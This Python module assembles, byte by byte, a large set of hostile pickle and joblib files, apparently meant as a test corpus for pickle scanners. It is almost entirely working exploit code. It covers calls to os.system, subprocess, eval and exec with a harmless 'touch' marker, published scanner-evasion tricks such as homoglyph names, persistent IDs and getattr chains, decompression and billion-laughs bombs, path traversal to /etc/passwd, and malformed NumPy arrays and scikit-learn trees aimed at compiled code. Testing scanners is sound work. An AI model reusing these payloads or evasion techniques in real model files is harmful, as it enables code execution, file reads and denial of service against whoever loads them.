"""Hostile pickles and files of joblib, written by hand: `files` gives them by name, ``python -m`` writes them to a folder.

Most would create a marker when a pickle machine runs them. The names that they call are those of the published ways
around scanners of pickles (picklescan, fickling, modelscan), and those of the manuals.
"""

from __future__ import annotations

import bz2
import gzip
import lzma
import struct
import sys
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

__all__ = ["files"]

# --- a small assembler --------------------------------------------------------------------------------


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def integer(value: int) -> bytes:
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def dotted(path: str) -> bytes:
    module, _, attribute = path.partition(":")
    return name(module, attribute)


def atom(value: Any) -> bytes:
    if isinstance(value, bytes):
        # A piece that is assembled already.
        return value
    if isinstance(value, bool):
        return b"\x88" if value else b"\x89"
    if isinstance(value, int):
        return integer(value)
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value)
    if value is None:
        return b"N"
    if isinstance(value, str):
        return text(value)
    if isinstance(value, tuple):
        return b"(" + b"".join(map(atom, value)) + b"t"
    if isinstance(value, list):
        return b"(" + b"".join(map(atom, value)) + b"l"
    if isinstance(value, dict):
        return b"(" + b"".join(atom(key) + atom(item) for key, item in value.items()) + b"d"
    raise TypeError(type(value).__name__)


def call(function: str | bytes, *arguments: Any) -> bytes:
    made = dotted(function) if isinstance(function, str) else function
    return made + atom(tuple(arguments)) + b"R"


def new(cls: str, *arguments: Any) -> bytes:
    return dotted(cls) + atom(tuple(arguments)) + b"\x81"


def built(piece: bytes, state: Any) -> bytes:
    return piece + atom(state) + b"b"


def pickled(piece: bytes, protocol: int = 4) -> bytes:
    return b"\x80" + bytes([protocol]) + piece + b"."


def dtype(code: str, state: Any = None) -> bytes:
    made = call("numpy:dtype", code, False, True)
    return built(
        made, state if state is not None else (3, "|" if code[0] in "OV" else "<", None, None, None, -1, -1, 0)
    )


def array(code: str | bytes, shape: Any, data: bytes | list[Any], *, of: str = "numpy:ndarray") -> bytes:
    kind = dtype(code) if isinstance(code, str) else code
    values = raw(data) if isinstance(data, bytes) else atom(data)
    made = call("numpy.core.multiarray:_reconstruct", dotted(of), (0,), raw(b"b"))
    return built(made, (1, shape, kind, False, values))


def estimator(cls: str, **attributes: Any) -> bytes:
    return built(new(cls), {**attributes, "_sklearn_version": "1.9.1"})


# --- what is called ---------------------------------------------------------------------------------------

#: Functions that scanners let through, or once did, with arguments that would make the marker.
CALLS: dict[str, Callable[[str], tuple[Any, ...]]] = {
    "os:system": lambda m: (f"touch {m}",),
    "posix:system": lambda m: (f"touch {m}",),
    "nt:system": lambda m: (f"copy nul {m}",),
    "os:popen": lambda m: (f"touch {m}",),
    "os:execvp": lambda m: ("touch", ["touch", m]),
    "os:posix_spawn": lambda m: ("/usr/bin/touch", ["touch", m], {}),
    "os:mkdir": lambda m: (m,),
    "subprocess:run": lambda m: (["touch", m],),
    "subprocess:Popen": lambda m: (["touch", m],),
    "subprocess:getoutput": lambda m: (f"touch {m}",),
    "_posixsubprocess:fork_exec": lambda m: ([b"touch"],),
    "builtins:eval": lambda m: (f"open({m!r}, 'w')",),
    "builtins:exec": lambda m: (f"open({m!r}, 'w')",),
    "builtins:open": lambda m: (m, "w"),
    "builtins:compile": lambda m: (f"open({m!r}, 'w')", "x", "exec"),
    "builtins:__import__": lambda m: ("antigravity",),
    "builtins:breakpoint": lambda m: (),
    "builtins:input": lambda m: (),
    "builtins:setattr": lambda m: ("a", "b", 1),
    "builtins:map": lambda m: (dotted("os:system"), [f"touch {m}"]),
    "builtins:list": lambda m: (call("builtins:map", dotted("os:system"), [f"touch {m}"]),),
    "builtins:print": lambda m: (m,),
    "__builtin__:eval": lambda m: (f"open({m!r}, 'w')",),
    "__builtin__:execfile": lambda m: (m,),
    "commands:getoutput": lambda m: (f"touch {m}",),
    "importlib:import_module": lambda m: ("antigravity",),
    "importlib._bootstrap_external:SourceFileLoader": lambda m: ("x", m),
    "imp:load_source": lambda m: ("x", m),
    "runpy:run_path": lambda m: (m,),
    "runpy:_run_code": lambda m: (f"open({m!r}, 'w')", {}),
    "code:interact": lambda m: (),
    "code:InteractiveInterpreter": lambda m: (),
    "pdb:run": lambda m: (f"open({m!r}, 'w')",),
    "bdb:Bdb.run": lambda m: (None, f"open({m!r}, 'w')"),
    "cProfile:run": lambda m: (f"open({m!r}, 'w')",),
    "cProfile:runctx": lambda m: (f"open({m!r}, 'w')", {}, {}),
    "profile:Profile.runctx": lambda m: (None, f"open({m!r}, 'w')", {}, {}),
    "trace:Trace.run": lambda m: (None, f"open({m!r}, 'w')"),
    "timeit:timeit": lambda m: (f"open({m!r}, 'w')",),
    "doctest:debug_script": lambda m: (f"open({m!r}, 'w')",),
    "pydoc:pipepager": lambda m: ("", f"touch {m}"),
    "_pyrepl.pager:pipe_pager": lambda m: ("", f"touch {m}"),
    "pty:spawn": lambda m: (["touch", m],),
    "ensurepip:_run_pip": lambda m: (["--version"],),
    "pip:main": lambda m: (["--version"],),
    "pip._internal.cli.main:main": lambda m: (["--version"],),
    "idlelib.pyshell:ModifiedInterpreter.runcommand": lambda m: (None, f"open({m!r}, 'w')"),
    "idlelib.run:Executive.runcode": lambda m: (None, f"open({m!r}, 'w')"),
    "idlelib.autocomplete:AutoComplete.get_entity": lambda m: (None, f"open({m!r}, 'w')"),
    "lib2to3.pgen2.pgen:ParserGenerator.make_label": lambda m: (None, None, f"open({m!r}, 'w')"),
    "asyncio.unix_events:_UnixSubprocessTransport._start": lambda m: (None, ["touch", m], False, None, None, None, 0),
    "multiprocessing.util:spawnv_passfds": lambda m: ("/usr/bin/touch", ["touch", m], []),
    "uuid:_get_command_stdout": lambda m: ("touch", m),
    "_osx_support:_read_output": lambda m: (f"touch {m}",),
    "_aix_support:_read_cmd_output": lambda m: (f"touch {m}",),
    "test.support.script_helper:assert_python_ok": lambda m: ("-c", f"open({m!r}, 'w')"),
    "distutils.file_util:write_file": lambda m: (m, ["x"]),
    "shutil:copyfile": lambda m: (__file__, m),
    "pathlib:Path.touch": lambda m: (call("pathlib:PosixPath", m),),
    "io:FileIO": lambda m: (m, "w"),
    "_io:FileIO": lambda m: (m, "w"),
    "linecache:updatecache": lambda m: (m,),
    "logging:FileHandler": lambda m: (m,),
    "sqlite3:connect": lambda m: (m,),
    "urllib.request:urlretrieve": lambda m: ("file:///dev/null", m),
    "http.client:HTTPSConnection": lambda m: ("localhost",),
    "socket:create_connection": lambda m: (("localhost", 1),),
    "webbrowser:open": lambda m: ("file:///dev/null",),
    "ctypes:CDLL": lambda m: ("libc.so.6",),
    "marshal:loads": lambda m: (raw(b"\xe3" + bytes(60)),),
    "pickle:loads": lambda m: (raw(pickled(call("os:system", f"touch {m}"))),),
    "_pickle:loads": lambda m: (raw(pickled(call("os:system", f"touch {m}"))),),
    "joblib:load": lambda m: (m,),
    "joblib.numpy_pickle:load": lambda m: (m,),
    "numpy:load": lambda m: (m,),
    "numpy:save": lambda m: (m, 1),
    "numpy:memmap": lambda m: (m, "uint8", "w+", 0, (1,)),
    "numpy:fromfile": lambda m: (m,),
    "numpy.f2py.crackfortran:getlincoef": lambda m: (f"open({m!r}, 'w')", {}),
    "numpy.testing._private.utils:runstring": lambda m: (f"open({m!r}, 'w')", {}),
    "numpy.lib.npyio:loadtxt": lambda m: (m,),
    "pandas:read_pickle": lambda m: (m,),
    "pandas:eval": lambda m: ("1 + 1",),
    "scipy.io:loadmat": lambda m: (m,),
    "sklearn.datasets:load_files": lambda m: (m,),
    "torch.utils.bottleneck.__main__:run_autograd_prof": lambda m: (f"open({m!r}, 'w')", {}),
    "torch.hub:load": lambda m: ("x", "y"),
    "types:FunctionType": lambda m: (None, {}),
    "types:CodeType": lambda m: (0, 0, 0),
    "functools:reduce": lambda m: (dotted("builtins:getattr"), ["a", "b"]),
    "functools:partial": lambda m: (dotted("os:system"), f"touch {m}"),
    "weakref:finalize": lambda m: (dotted("builtins:object"), dotted("os:system"), f"touch {m}"),
    "threading:Timer": lambda m: (0, dotted("os:system"), [f"touch {m}"]),
    "atexit:register": lambda m: (dotted("os:system"), f"touch {m}"),
    "sys:setrecursionlimit": lambda m: (10,),
    "signal:alarm": lambda m: (1,),
    "gc:get_objects": lambda m: (),
    "pkgutil:resolve_name": lambda m: ("os:system",),
    "builtins:dict.get": lambda m: (name("numpy", "__builtins__"), "exec"),
    "perdure:load": lambda m: (m,),
    "perdure.build.resolve:_import": lambda m: ("antigravity", False),
}

# --- tricks ---------------------------------------------------------------------------------------------


def shell(marker: str) -> bytes:
    return call("os:system", f"touch {marker}")


def laughs(levels: int, wrap: bytes = b"\x86") -> bytes:
    """Pairs of pairs of pairs: 2 to the levels, if somebody counts them."""
    return text("ha") + (b"2" + wrap) * levels


def nodes(count: int, **columns: Any) -> bytes:
    """The nodes of a tree of scikit-learn, which its compiled code believes."""
    kind = np.dtype(
        {
            "names": ["left_child", "right_child", "feature", "threshold", "impurity", "n_node_samples",
                      "weighted_n_node_samples", "missing_go_to_left"],
            "formats": ["<i8", "<i8", "<i8", "<f8", "<f8", "<i8", "<f8", "u1"],
            "offsets": [0, 8, 16, 24, 32, 40, 48, 56],
            "itemsize": 64,
        }
    )  # fmt: skip
    made = np.zeros(count, kind)
    for key, values in columns.items():
        made[key] = values
    fields = {
        key: (
            dtype(kind[key].str[1:], (3, "|" if kind[key].itemsize == 1 else "<", None, None, None, -1, -1, 0)),
            offset,
        )
        for key, (_, offset) in kind.fields.items()
    }
    described = dtype("V64", (3, "|", None, tuple(kind.names), fields, 64, 8, 16))
    return array(described, (count,), made.tobytes())


def tree(count: int = 3, *, depth: int = 1, shape: tuple[int, ...] | None = None, **columns: Any) -> bytes:
    values = array("f8", shape or (count, 1, 2), np.full(count * 2, 0.5).tobytes())
    classes = array("i8", (1,), np.array([2]).tobytes())
    made = call("sklearn.tree._tree:Tree", 2, classes, 1)
    inner = built(made, {"max_depth": depth, "node_count": count, "nodes": nodes(count, **columns), "values": values})
    return estimator(
        "sklearn.tree._classes:DecisionTreeClassifier",
        tree_=inner, n_features_in_=2, n_outputs_=1, n_classes_=2, classes_=array("i8", (2,), np.arange(2).tobytes()),
        max_features_=2, criterion="gini", splitter="best", max_depth=None,
    )  # fmt: skip


def wrapper(kind: str = "f8", shape: Any = (3,), *, module: str = "joblib.numpy_pickle", **more: Any) -> bytes:
    state = {
        "subclass": dotted("numpy:ndarray"), "shape": shape, "order": "C", "dtype": dtype(kind), "allow_mmap": True, **more,
    }  # fmt: skip
    return built(new(f"{module}:NumpyArrayWrapper"), state)


def nested(marker: str, levels: int) -> bytes:
    """Pickles within pickles, as joblib stores arrays of objects."""
    inner = pickled(shell(marker))
    for _ in range(levels):
        inner = pickled(wrapper("O") + inner)
    return inner


def beside(file: str, kind: str = "NDArrayWrapper") -> bytes:
    state = {
        "filename": file,
        "subclass": dotted("numpy:ndarray"),
        "allow_mmap": True,
        "state": (1, (3,)),
        "init_args": (),
    }
    return pickled(built(new(f"joblib.numpy_pickle:{kind}"), state))


def zlib_bomb(start: bytes, level: int = 9) -> bytes:
    made = zlib.compressobj(level)
    pieces = [made.compress(start)]
    block = bytes(1 << 24)
    pieces += [made.compress(block) for _ in range(48)]
    return b"".join(pieces) + made.flush()


def tricks(m: str) -> dict[str, bytes]:
    """Return the files that are no plain call."""
    system = name("os", "system")
    arguments = atom((f"touch {m}",))
    zeros = bytes(64)
    made = {
        # the ways to call
        "inst": b"(" + text(f"touch {m}") + b"ios\nsystem\n.",
        "obj": pickled(b"(" + system + text(f"touch {m}") + b"o"),
        "newobj": pickled(name("subprocess", "Popen") + atom((["touch", m],)) + b"\x81"),
        "newobj-ex": pickled(name("subprocess", "Popen") + atom((["touch", m],)) + atom({"shell": True}) + b"\x92"),
        "stack-global": pickled(text("os") + text("system") + b"\x93" + arguments + b"R"),
        "stack-global-of-memo": pickled(
            text("os") + b"\x940" + text("system") + b"\x940" + b"h\x00h\x01\x93" + arguments + b"R"
        ),
        "dotted-attribute": pickled(text("sklearn") + text("os.system") + b"\x93" + arguments + b"R"),
        "module-of-module": pickled(text("numpy") + text("core._internal.sys.modules") + b"\x93"),
        "builtins-of-numpy": pickled(
            call("builtins:dict.get", name("numpy", "__builtins__"), "exec") + atom((f"open({m!r}, 'w')",)) + b"R"
        ),
        "getattr-chain": pickled(
            call(call("builtins:getattr", call("builtins:__import__", "os"), "system"), f"touch {m}")
        ),
        "getattr-of-globals": pickled(call("builtins:getattr", name("numpy", "mean"), "__globals__")),
        "attrgetter": pickled(call(call("operator:attrgetter", "system"), call("builtins:__import__", "os"))),
        "attrgetter-of-globals": pickled(call("operator:attrgetter", "__globals__.x")),
        "methodcaller": pickled(call("operator:methodcaller", "system", f"touch {m}")),
        "reduce-a-reduce": pickled(call(shell(m), 1)),
        "call-a-list": pickled(atom([]) + arguments + b"R"),
        "call-with-a-list": pickled(system + atom([f"touch {m}"]) + b"R"),
        "newobj-of-text": pickled(text("os") + arguments + b"\x81"),
        "copyreg-newobj": pickled(call("copyreg:__newobj__", name("subprocess", "Popen"), ["touch", m])),
        "copyreg-reconstructor": pickled(call("copyreg:_reconstructor", system, name("builtins", "str"), f"touch {m}")),
        "python-2-names": b"c__builtin__\neval\n(S'open(" + repr(m).replace("'", '"').encode() + b', "w")\'\ntR.',
        "after-a-pop": pickled(shell(m) + b"0" + atom({"model": 1})),
        "broken-after-the-call": b"\x80\x04" + shell(m) + b"\xff\xff\xff",
        "no-stop": b"\x80\x04" + shell(m),
        "two-pickles": pickled(shell(m)) + pickled(atom(1)),
        "in-a-key": pickled(b"(" + shell(m) + atom(1) + b"d"),
        "in-a-set": pickled(b"\x8f(" + shell(m) + b"\x90"),
        "in-an-attribute": pickled(estimator("sklearn.linear_model._base:LinearRegression", coef_=shell(m))),
        "in-an-argument": pickled(call("numpy.core.multiarray:scalar", dtype("f8"), shell(m))),
        "in-a-dtype": pickled(call("numpy:dtype", shell(m), False, True)),
        "in-a-frame": pickled(built(new("pandas.core.frame:DataFrame"), {"_mgr": shell(m)})),
        "as-a-parameter": pickled(estimator("sklearn.preprocessing._function_transformer:FunctionTransformer", func=system)),
        "as-a-factory": pickled(call("collections:defaultdict", system)),
        "as-a-subclass": pickled(array("f8", (1,), zeros[:8], of="os:system")),
        "in-a-partial": pickled(
            built(call("functools:partial", name("builtins", "len")), (system, (f"touch {m}",), {}, None))
        ),
        "as-the-class-of-a-tree": pickled(built(call("sklearn.neighbors._kd_tree:newObj", system), (1,) * 13)),
        "as-the-class-of-a-loss": pickled(call("sklearn._loss._loss:__pyx_unpickle_CyHuberLoss", system, 1, (1.0,))),
        # where there is no name
        "extension-1": pickled(b"\x82\x01" + arguments + b"R", 2),
        "extension-4": pickled(b"\x84\xff\xff\xff\x7f" + arguments + b"R", 2),
        "persistent-id": b"Pos.system\n.",
        "persistent-id-called": pickled(text("os.system") + b"Q" + arguments + b"R"),
        "next-buffer": pickled(b"\x97", 5),
        "readonly-buffer": pickled(b"N\x98", 5),
        "homoglyph": pickled(text("о\u0455") + text("system") + b"\x93" + arguments + b"R"),
        "null-in-a-name": pickled(text("os\0") + text("system") + b"\x93" + arguments + b"R"),
        "name-of-bytes": pickled(raw(b"os") + raw(b"system") + b"\x93"),
        # what is built onto what
        "build-on-a-function": pickled(name("numpy", "prod") + atom((None, {"os": name("numpy", "core._internal.sys")})) + b"b"),
        "build-on-a-module": pickled(text("os") + text("path") + b"\x93" + atom({"join": system}) + b"b"),
        "build-on-a-list": pickled(atom([]) + atom({"append": system}) + b"b"),
        "build-a-class-change": pickled(
            built(new("sklearn.linear_model._base:LinearRegression"), {"__class__": name("subprocess", "Popen")})
        ),
        "build-a-method": pickled(estimator("sklearn.linear_model._base:LinearRegression", predict=name("builtins", "len"))),
        "build-a-reduce": pickled(estimator("sklearn.linear_model._base:LinearRegression", __reduce__=system)),
        "build-an-estimator-with-text": pickled(built(new("sklearn.linear_model._base:LinearRegression"), "state")),
        "setitem-on-a-name": pickled(system + text("a") + text("b") + b"s"),
        "append-to-a-name": pickled(system + text("a") + b"a"),
        "add-to-a-frozenset": pickled(b"(\x91(" + text("a") + b"\x90"),
        # the stack and the memo
        "stack-underflow": pickled(b"0000"),
        "stop-at-once": b"\x80\x04.",
        "too-much-left": pickled(b"NNN"),
        "open-mark": pickled(b"(N"),
        "mark-popped-from-below": pickled(b"N(b"),
        "get-of-nothing": pickled(b"h\x07"),
        "long-get-of-nothing": pickled(b"j\xff\xff\xff\xff"),
        "put-below-zero": b"Np-1\n.",
        "put-far-out": b"Np" + b"9" * 5000 + b"\n.",
        "put-on-nothing": pickled(b"q\x00"),
        "memo-changed-under-way": pickled(
            name("builtins", "list") + b"q\x000" + system + b"q\x000" + b"h\x00" + arguments + b"R"
        ),
        "dup-of-nothing": pickled(b"2"),
        "odd-items-of-a-dict": pickled(b"(NNNd"),
        "unknown-opcode": b"\x80\x04\x99.",
        "protocol-6": b"\x80\x06N.",
        "protocol-250": b"\x80\xfaN.",
        "frame-too-long": b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.",
        "long-text": pickled(b"\x8d" + struct.pack("<Q", 1 << 62)),
        "long-bytes": pickled(b"\x8e" + struct.pack("<Q", (1 << 63) - 1)),
        "long-bytearray": pickled(b"\x96" + struct.pack("<Q", 1 << 40), 5),
        "negative-integer-size": pickled(b"\x8b" + struct.pack("<i", -5)),
        "integer-of-a-gigabyte": pickled(b"\x8b" + struct.pack("<i", 1 << 30)),
        "integer-of-a-million-digits": b"I" + b"9" * 1_000_000 + b"\n.",
        "float-of-words": b"Fnonsense\n.",
        "text-of-no-text": pickled(b"X\x02\x00\x00\x00\xff\xfe"),
        "string-without-quotes": b"Sabc\n.",
        "string-with-half-an-escape": b"S'\\x4'\n.",
        "line-without-end": b"V" + b"a" * 100_000,
        # too much
        "billion-laughs": pickled(laughs(64)),
        "billion-laughs-in-a-key": pickled(b"(" + laughs(40) + b"Nd"),
        "billion-laughs-in-a-set": pickled(b"\x8f(" + laughs(40) + b"\x90"),
        "billion-laughs-in-frozensets": pickled(text("a") + b"(".join([b""]) + (b"q\x00(h\x00h\x00\x910h\x00" * 1) + b"\x85" * 3)
        + b"",
        "a-hundred-thousand-tuples-deep": pickled(b"N" + b"\x85" * 100_000),
        "a-hundred-thousand-lists-deep": pickled(b"]" * 100_000 + b"a" * 99_999),
        "a-hundred-thousand-marks": pickled(b"(" * 100_000 + b"t" * 100_000 + b"\x85" * 300),
        "five-million-lists": pickled(b"(" + b"]" * 5_100_000 + b"l"),
        "one-text-many-times": pickled(text("x" * 1_000_000) + b"q\x000(" + (b"(h\x00t" * 100_000) + b"l" + b"\x85" * 400),
        "one-array-many-times": pickled(
            raw(bytes(1 << 20)) + b"q\x000(" + b"".join(_array_of_memo(1 << 20) for _ in range(8000)) + b"l"
        ),
        "nested-too-deep-in-joblib": nested(m, 3000),
        "gigabyte-of-nothing": zlib_bomb(b"\x80\x04"),
        "many-marks": bz2.compress(b"\x80\x04" + b"(" * (1 << 26)),
        "many-lists": zlib.compress(b"\x80\x04" + b"]" * (1 << 26)),
        "gigabyte-of-one-array": zlib_bomb(b"\x80\x04" + wrapper("u1", (1 << 30,))),
        "much-in-xz": lzma.compress(b"\x80\x04" + wrapper("u1", (1 << 28,)) + bytes(1 << 28), preset=0),
        "bomb-in-a-bomb": gzip.compress(zlib_bomb(b"\x80\x04")),
        "half-a-gzip": gzip.compress(pickled(shell(m)))[:-9],
        "a-gzip-of-text": gzip.compress(b"This is a text, and no pickle."),
        "a-lie-of-zf": b"ZF" + b"0x7fffffffffffffff".ljust(19) + zlib.compress(pickled(shell(m))),
        # arrays that lie
        "array-of-pointers": pickled(array(dtype("O", (3, "|", None, None, None, -1, -1, 63)), (8,), zeros)),
        "array-of-pointers-by-buffer": pickled(
            call("numpy.core.numeric:_frombuffer", raw(zeros), dtype("O", (3, "|", None, None, None, -1, -1, 63)), (8,), "C")
        ),
        "scalar-of-a-pointer": pickled(call("numpy.core.multiarray:scalar", dtype("V8"), raw(zeros[:8]))),
        "array-larger-than-its-bytes": pickled(array("f8", (1 << 40,), zeros)),
        "array-of-overflowing-shape": pickled(array("f8", (1 << 33, 1 << 33), b"")),
        "array-of-negative-shape": pickled(array("f8", (-8,), zeros)),
        "array-of-a-shape-of-text": pickled(array("f8", ("8",), zeros)),
        "array-of-a-hundred-dimensions": pickled(array("f8", (1,) * 100, zeros[:8])),
        "array-of-booleans-that-are-none": pickled(array("b1", (64,), b"\x07" * 64)),
        "array-of-characters-that-are-none": pickled(array(dtype("U1", (3, "<", None, None, None, 4, 4, 8)), (16,), b"\xff" * 64)),
        "array-of-long-doubles": pickled(array("f16", (4,), zeros)),
        "fields-beyond-the-end": pickled(
            array(dtype("V8", (3, "|", None, ("a",), {"a": (dtype("f8"), 1 << 20)}, 8, 1, 16)), (8,), zeros)
        ),
        "fields-upon-each-other": pickled(
            array(dtype("V8", (3, "|", None, ("a", "b"), {"a": (dtype("f8"), 0), "b": (dtype("f8"), 0)}, 8, 1, 16)), (8,), zeros)
        ),
        "fields-of-pointers": pickled(
            array(dtype("V8", (3, "|", None, ("a",), {"a": (dtype("O"), 0)}, 8, 1, 16)), (8,), zeros)
        ),
        "dtype-within-itself": pickled(
            dtype("f8") + b"q\x00" + atom((3, "<", None, ("a",), {"a": (b"h\x00", 0)}, 8, 1, 16)) + b"b"
        ),
        "object-array-of-too-few": pickled(array("O8", (5,), [1, 2])),
        "masked-array-with-half-a-mask": pickled(
            built(
                call("numpy.ma.core:_mareconstruct", name("numpy.ma", "MaskedArray"), name("numpy", "ndarray"), (0,), "b"),
                (1, (8,), dtype("f8"), False, raw(zeros), raw(b"\0"), None),
            )
        ),
        # joblib
        "nested-in-joblib": nested(m, 1),
        "nested-twice-in-joblib": nested(m, 2),
        "array-that-ends-too-early": pickled(wrapper("f8", (1 << 20,))) + zeros,
        "array-behind-much-padding": pickled(wrapper(numpy_array_alignment_bytes=16) + b"\xff" + zeros),
        "array-of-any-class": pickled(wrapper(subclass=system) + zeros[:24]),
        "array-of-the-old-joblib": pickled(wrapper("O", module="sklearn.externals.joblib.numpy_pickle") + pickled(shell(m))),
        "file-outside-the-folder": beside("../../../../etc/passwd.npy"),
        "file-by-its-full-path": beside("/etc/hostname.npy"),
        "file-that-is-not-there": beside("filename.pkl_01.npy"),
        "file-of-no-array": beside("passwd"),
        "compressed-file-outside": beside("..\\..\\secret.npy.z", "ZNDArrayWrapper"),
        # what compiled code would believe
        "tree-with-a-child-outside": pickled(tree(left_child=[1, -1, -1], right_child=[999_999, -1, -1], feature=[0, -2, -2])),
        "tree-in-a-circle": pickled(tree(left_child=[0, -1, -1], right_child=[0, -1, -1])),
        "tree-that-asks-a-far-feature": pickled(
            tree(left_child=[1, -1, -1], right_child=[2, -1, -1], feature=[1 << 40, -2, -2])
        ),
        "tree-without-nodes": pickled(tree(0)),
        "tree-with-too-few-values": pickled(tree(shape=(3, 2, 1))),
        "random-state-far-out": pickled(
            built(
                call("numpy.random:__RandomState_ctor"),
                ("MT19937", array("u4", (624,), bytes(2496)), 1 << 30, 0, 0.0),
            )
        ),
        "bit-generator-of-another-name": pickled(built(call("numpy.random._pickle:__bit_generator_ctor", "os"), {"a": 1})),
        "seed-with-a-huge-pool": pickled(
            call("numpy.random.bit_generator:__pyx_unpickle_SeedSequence", name("numpy.random.bit_generator", "SeedSequence"), 1,
                 (1, 0, None, 1 << 40, ()))
        ),
        "sparse-with-indices-outside": pickled(
            built(
                new("scipy.sparse._csr:csr_matrix"),
                {"_shape": (2, 2), "data": array("f8", (1,), zeros[:8]), "indices": array("i4", (1,), b"\xff\xff\xff\x7f"),
                 "indptr": array("i4", (3,), struct.pack("<3i", 0, 1, 1))},
            )
        ),
        "time-zone-of-a-path": pickled(call("zoneinfo:ZoneInfo._unpickle", "../../../../etc/passwd", True)),
        "table-with-endless-places": pickled(
            built(
                new("pandas.core.frame:DataFrame"),
                {"_mgr": call("pandas.core.internals.managers:BlockManager",
                              (call("pandas._libs.internals:_unpickle_block", array("f8", (1, 8), zeros),
                                    call("builtins:slice", 0, 1 << 62, 1), 2),), [1, 2])},
            )
        ),
        "cache-of-the-file-s-choice": pickled(built(call("joblib.memory:Memory", m), {"location": m})),
        "patterns-that-never-end": pickled(
            estimator("sklearn.feature_extraction.text:CountVectorizer", token_pattern="(a+)+$", input="content")
        ),
        "vectorizer-that-reads-files": pickled(
            estimator("sklearn.feature_extraction.text:CountVectorizer", input="filename", token_pattern=None)
        ),
    }  # fmt: skip
    made["date-out-of-range"] = pickled(call("datetime:datetime", raw(b"\xff" * 10)))
    made["range-without-a-step"] = pickled(call("builtins:range", 0, 5, 0))
    return made


def _array_of_memo(size: int) -> bytes:
    """An array of the bytes that the memo holds: many of them are little in the file."""
    return array("u1", (size,), b"").replace(raw(b""), b"h\x00")


def files(marker: str) -> dict[str, bytes]:
    """Return every hostile file by its name.

    Parameters
    ----------
    marker : str
        The path of what the code in them would make.
    """
    found = {f"call {function}": pickled(call(function, *given(marker))) for function, given in CALLS.items()}
    found |= {
        f"call {function} in protocol 2": pickled(call(function, *CALLS[function](marker)), 2)
        for function in list(CALLS)[:12]
    }
    return found | tricks(marker)


def main(folder: str) -> None:
    """Write them all."""
    target = Path(folder)
    target.mkdir(parents=True, exist_ok=True)
    for title, data in files(str(target / "marker")).items():
        (target / (title.replace(":", "-").replace(" ", "_") + ".pkl")).write_bytes(data)


if __name__ == "__main__":
    main(sys.argv[1])
